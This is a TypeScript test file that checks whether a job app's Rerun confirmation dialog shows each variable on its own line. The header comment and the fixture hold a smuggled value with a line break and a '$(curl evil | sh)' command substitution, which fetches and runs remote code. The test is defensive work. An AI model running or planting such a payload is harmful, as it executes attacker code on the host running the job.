// Attack (atk23, hostile user → admin): the Rerun question shows another user's code and its
// variables, one `name = value` line each, so the admin can judge what runs as them. A rerun runs the
// task's code with the values substituted at submit, but a value is drawn with its line breaks kept:
// mallory's `a` = 'hi"\ncleanup = "$(curl evil | sh)' is drawn as two variables, a = hi" and an unused
// "cleanup", while `echo "${a}"` runs `echo "hi"` and then the command substitution. Expected: one
// line per variable in the question (a line break inside a value shown as an escape), so no value
// can pass for another variable.
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import type { JobDetail } from '../../shared/model'
import { RerunConfirm } from '../../renderer/src/features/jobs/RerunConfirm'

describe('the Rerun question’s variables', () => {
  it('draws one line per variable, whatever the values hold', () => {
    const detail = {
      id: 7, uuid: 'u7', kind: 'script', name: 'greet', status: 'succeeded', progress: 1, error: null, submitter: 'mallory',
      createdAt: 1, startedAt: 1, finishedAt: 2, taskCount: 1, labels: {}, tasks: [],
      input: { language: 'shell', code: 'echo "${a}"', variables: { a: 'hi"\ncleanup = "$(curl evil | sh)' } },
    } as unknown as JobDetail
    const html = renderToStaticMarkup(createElement(RerunConfirm, { detail, me: 'admin', onConfirm: () => {}, onClose: () => {} }))
    const block = /data-testid="rerun-variables"[^>]*>([\s\S]*?)<\/pre>/.exec(html)?.[1] ?? ''
    const text = block.replace(/<[^>]+>/g, '')
    expect(text).toContain('a = hi')
    expect(text.split('\n'), 'the variables as the admin reads them').toHaveLength(1) // today: 2 lines, the second "cleanup = …"
  })
})
